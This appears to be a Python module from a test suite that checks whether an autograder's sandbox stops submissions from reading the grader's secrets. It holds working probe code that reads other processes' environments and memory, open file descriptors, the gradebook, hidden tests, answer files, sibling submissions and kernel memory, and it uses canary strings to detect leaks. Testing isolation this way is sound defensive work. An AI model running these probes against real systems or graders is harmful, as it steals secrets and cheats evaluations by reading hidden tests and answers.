"""Looking for the grader's secrets: hidden tests, answers, seeds, other submissions, the gradebook, the environment.

What an attack finds it prints: secrets that lie round the grader hold a word that no output may ever show.
"""

from __future__ import annotations

import textwrap

from attacks.table import Attack, own_cell

READ = """
import os

def show(path, most=1 << 16):
    try:
        with open(path, 'rb') as file:
            print(file.read(most).decode('latin-1'))
    except (OSError, ValueError):
        pass

def walk(top, most=2000):
    for folder, folders, names in os.walk(top):
        for name in names:
            most -= 1
            if most < 0:
                return
            yield os.path.join(folder, name)

def above(start):
    parts = os.path.realpath(start).split('/')
    return ['/'.join(parts[:count]) or '/' for count in range(len(parts), 0, -1)]

def grader_s_folders():
    # The course lies beside the folder for temporary files; a worker's own folder lies in that one.
    here = [os.getcwd(), os.path.realpath(os.environ.get('TMPDIR', '.')), os.path.expanduser('~')]
    return sorted({folder for start in here for folder in above(start)[:6] if folder.count('/') > 1})
"""

SEARCHES = {
    "own_environment": ("its own environment", "print(dict(os.environ))"),
    "environment_of_others": (
        "the environment of the processes above it",
        """
        try:
            pids = os.listdir('/proc')
        except OSError:
            pids = ['self', os.getppid(), 1, *range(max(1, os.getpid() - 200), os.getpid())]
        for pid in pids:
            show(f'/proc/{pid}/environ')
        """,
    ),
    "gradebook_by_path": (
        "the gradebook and other submissions beside the grader's folder",
        """
        for folder in grader_s_folders():
            for path in (folder + '/course/gradebook.db', folder + '/home/notes.txt'):
                show(path)
            for path in walk(folder + '/course/submitted'):
                show(path)
        """,
    ),
    "solved_notebook": (
        "the instructor's solved notebook",
        """
        for folder in grader_s_folders():
            for path in walk(folder + '/course/source'):
                show(path)
        """,
    ),
    "memory_of_the_grader": (
        "the memory of processes near it",
        """
        for pid in [os.getppid(), *range(max(1, os.getpid() - 50), os.getpid())]:
            try:
                for line in open(f'/proc/{pid}/maps'):
                    if ' rw' in line:
                        start, end = (int(part, 16) for part in line.split()[0].split('-'))
                        with open(f'/proc/{pid}/mem', 'rb', 0) as memory:
                            memory.seek(start)
                            print(memory.read(min(end - start, 1 << 20)).decode('latin-1'))
            except (OSError, ValueError, OverflowError):
                pass
        """,
    ),
    "descriptors_of_others": (
        "files that other processes hold open",
        """
        for pid in range(max(1, os.getpid() - 200), os.getpid() + 20):
            for fd in range(20):
                show(f'/proc/{pid}/fd/{fd}') if pid != os.getpid() else None
        """,
    ),
    "roots_of_others": (
        "the file system as other processes see it",
        """
        for pid in ('1', os.getppid(), 'self', 'thread-self'):
            for folder in grader_s_folders():
                show(f'/proc/{pid}/root{folder}/course/gradebook.db'), show(f'/proc/{pid}/cwd/notes.txt')
        """,
    ),
    "shared_memory": (
        "shared memory",
        """
        for top in ('/dev/shm', '/run/shm', '/dev/mqueue'):
            for path in walk(top):
                show(path)
        """,
    ),
    "a_sibling_s_folder": (
        "the folder of another submission that is graded at the same time",
        """
        for folder in above(os.getcwd())[1:3]:
            for path in walk(folder):
                if path.endswith('answer.txt'):
                    show(path)
        """,
    ),
    "a_link_in_its_folder": (
        "a link to the gradebook in its own folder",
        """
        for number, folder in enumerate(grader_s_folders()):
            try:
                os.symlink(folder + '/course/gradebook.db', f'link{number}')
                show(f'link{number}')
                os.link(folder + '/course/gradebook.db', f'hard{number}')
                show(f'hard{number}')
            except OSError:
                pass
        """,
    ),
    "hidden_tests_as_modules": (
        "hidden tests as modules",
        """
        import importlib, inspect, sys
        for name in ('assignments.ps1_gradient_descent.hidden_tests', 'assignments.ps1_gradient_descent.answers',
                     'authoring', 'grading', 'course', 'seeds'):
            try:
                print(inspect.getsource(importlib.import_module('autograder.' + name)))
            except Exception:
                pass
        """,
    ),
    "hidden_tests_as_files": (
        "hidden tests as files beside the installed package and in the course",
        """
        import sys
        places = {os.path.dirname(getattr(module, '__file__', None) or '') for name, module in sys.modules.items()
                  if name.startswith('autograder')}
        folders = [folder for place in sorted(places) for folder in above(place)[:3]]
        for folder in [*folders, *(folder + '/course' for folder in grader_s_folders())]:
            for path in walk(folder):
                if path.endswith(('hidden_tests.py', 'answers.py', 'gradebook.db', '.secret', '/secret')):
                    show(path)
        """,
    ),
    "all_text_in_memory": (
        "hidden tests among all text in its own memory",
        """
        import gc
        # Written backwards, or it would find itself.
        needles = ['tneidarg_tset fed', 'esolc.tcepxe', 'c2f9-yranac']
        for thing in gc.get_objects():
            for part in (thing.values() if isinstance(thing, dict) else thing if isinstance(thing, (list, tuple)) else ()):
                if isinstance(part, str) and any(needle[::-1] in part for needle in needles):
                    print(part)
        """,
    ),
    "bytecode_left_over": (
        "compiled hidden tests",
        """
        import sys
        for folder in {*sys.path, sys.prefix, os.path.dirname(os.__file__)}:
            for path in walk(folder, 300):
                if 'hidden_tests' in path or 'answers' in path:
                    show(path)
        """,
    ),
    "open_with_handles": (
        "a file by its handle, past the paths",
        """
        import ctypes
        libc = ctypes.CDLL(None)
        for folder in grader_s_folders():
            handle = ctypes.create_string_buffer(b'\\x80\\0\\0\\0', 136)
            mount = ctypes.c_int()
            path = (folder + '/course/gradebook.db').encode()
            if libc.name_to_handle_at(-100, path, handle, ctypes.byref(mount), 0) == 0:
                fd = libc.open_by_handle_at(os.open('/', os.O_RDONLY), handle, 0)
                print(os.read(fd, 1000) if fd >= 0 else '')
        """,
    ),
    "open_with_new_calls": (
        "a file with openat2 and open_tree",
        """
        import ctypes
        libc = ctypes.CDLL(None)
        for folder in grader_s_folders():
            path = (folder + '/course/gradebook.db').encode()
            how = (ctypes.c_uint64 * 3)(0, 0, 0)
            for fd in (libc.syscall(437, -100, path, how, 24), libc.syscall(428, -100, path, 0)):
                if fd >= 0:
                    print(os.read(fd, 1000))
        """,
    ),
    "copied_by_the_kernel": (
        "a file with copy_file_range, sendfile and mmap",
        """
        import mmap
        mine = os.open('mine', os.O_RDWR | os.O_CREAT)
        for folder in grader_s_folders():
            for flags in (os.O_RDONLY, getattr(os, 'O_PATH', 0)):
                try:
                    fd = os.open(folder + '/course/gradebook.db', flags)
                except OSError:
                    continue
                for way in (lambda: os.copy_file_range(fd, mine, 1000), lambda: os.sendfile(mine, fd, 0, 1000),
                            lambda: os.write(mine, mmap.mmap(fd, 0, prot=mmap.PROT_READ)[:])):
                    try:
                        way()
                    except (OSError, ValueError):
                        pass
        print(os.pread(mine, 10_000, 0).decode('latin-1'))
        """,
    ),
    "watches_files_of_others": (
        "a watch on the grader's folder",
        """
        import ctypes
        libc = ctypes.CDLL(None)
        watch = libc.inotify_init1(0o4000)
        for folder in grader_s_folders():
            if libc.inotify_add_watch(watch, folder.encode(), 0xFFF) >= 0:
                print('watching canary-' + '9f2c61d07b')
        """,
    ),
    "the_kernel_s_log_and_memory": (
        "the kernel's log, its memory and devices",
        "for path in ('/dev/kmsg', '/dev/mem', '/proc/kcore', '/proc/kmsg', '/sys/kernel/notes'): show(path, 4096)",
    ),
}

ATTACKS: dict[str, Attack] = {
    name: own_cell(f"looks for {what}", f"{READ}\n{textwrap.dedent(code).strip()}")
    for name, (what, code) in SEARCHES.items()
}

FOUND_WITHOUT_ISOLATION = (
    "environment_of_others", "gradebook_by_path", "solved_notebook", "a_sibling_s_folder", "a_link_in_its_folder",
    "hidden_tests_as_modules", "hidden_tests_as_files", "open_with_new_calls", "copied_by_the_kernel",
    "watches_files_of_others",
)  # fmt: skip
"""Searches that find something where nothing isolates them: they are known to look where it is."""
